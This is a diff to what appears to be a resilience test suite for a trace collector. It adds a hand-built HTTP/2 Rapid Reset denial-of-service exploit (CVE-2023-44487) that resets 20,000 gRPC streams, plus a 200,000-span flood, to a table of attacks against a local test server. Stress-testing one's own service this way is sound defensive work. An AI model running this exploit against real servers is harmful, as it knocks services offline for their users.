@@ -271,6 +271,58 @@ def slow_heads(server: ServerProcess) -> dict[str, int]:
     return {answer: 1}
 
 
+def rapid_reset(server: ServerProcess) -> dict[str, int]:
+    """20,000 gRPC calls on one connection, each reset as soon as its head is sent (CVE-2023-44487)."""
+    host, port = server.grpc.split(":")
+    head = b"".join(
+        b"\0" + bytes([len(key)]) + key + bytes([len(value)]) + value
+        for key, value in (
+            (b":method", b"POST"),
+            (b":scheme", b"http"),
+            (b":path", b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
+            (b":authority", b"x"),
+            (b"content-type", b"application/grpc"),
+            (b"te", b"trailers"),
+        )
+    )
+
+    def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
+        size = len(content).to_bytes(3, "big")
+        return size + bytes([kind, flags]) + stream.to_bytes(4, "big") + content
+
+    sent = 0
+    made = socket.create_connection((host, int(port)), timeout=10)
+    with made, contextlib.suppress(OSError):
+        made.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
+        for stream in range(1, 40_001, 2):
+            made.sendall(frame(1, 4, stream, head) + frame(3, 0, stream, b"\0\0\0\x08"))
+            sent += 1
+        while made.recv(65_536):
+            pass
+    return {"streams reset": sent, f"then {send(server.address, 'traces', b'')}": 1}
+
+
+def wide_trace(server: ServerProcess) -> dict[str, int]:
+    """One trace of 200,000 spans in 40 bodies, until it is a request."""
+    from tests.collector.conftest import body, span
+
+    answers: dict[str, int] = {}
+    for first in range(0, 200_000, 5_000):
+        spans = [
+            span(1, i + 1, i // 8, name="step", start_ms=i * 0.001, ms=250 - i * 0.001)
+            for i in range(first, first + 5_000)
+        ]
+        answer = send(server.address, "traces", body(spans))
+        answers[answer] = answers.get(answer, 0) + 1
+    until = time.monotonic() + WAIT_S
+    while time.monotonic() < until:
+        ready = httpx.get(f"{server.http}/readyz", trust_env=False, verify=False, timeout=WAIT_S)
+        if ready.json()["pending_traces"] == 0:
+            break
+        time.sleep(0.2)
+    return answers
+
+
 def many(call: Callable[[int], str], count: int, at_once: int = 8) -> dict[str, int]:
     """How often each answer came."""
     out: dict[str, int] = {}
@@ -288,6 +340,8 @@ ATTACKS: Final[dict[str, Callable[[ServerProcess], dict[str, int]]]] = {
     "8,000 nested model calls": nested_calls,
     "a metrics page of 48 kB, 1.5 GB inflated": scrape_bomb,
     "600 connections that never end their head": slow_heads,
+    "20,000 gRPC calls, each reset at once": rapid_reset,
+    "a trace of 200,000 spans": wide_trace,
 }
 
 
